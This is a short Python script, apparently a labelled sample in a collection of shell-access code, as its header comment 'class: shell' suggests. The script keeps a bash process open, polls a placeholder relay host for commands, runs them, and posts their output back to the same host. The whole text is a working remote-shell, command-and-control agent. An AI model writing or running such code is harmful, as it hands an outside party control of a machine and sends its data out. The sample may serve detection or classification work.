# class: shell; possible: low medium; style: polls for tasks, one bash that stays
import subprocess
import time
import urllib.request

BASE = "http://relay.ops.test"
bash = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
for turn in range(16):
    with urllib.request.urlopen(BASE + "/task", timeout=10) as r:
        order = r.read().decode()
    if order:
        bash.stdin.write(order + "\necho __end__\n")
        bash.stdin.flush()
        out = ""
        for line in bash.stdout:
            if "__end__" in line:
                break
            out += line
        urllib.request.urlopen(BASE + "/result", data=out.encode(), timeout=10).read()
    time.sleep(1.2)
bash.stdin.close()
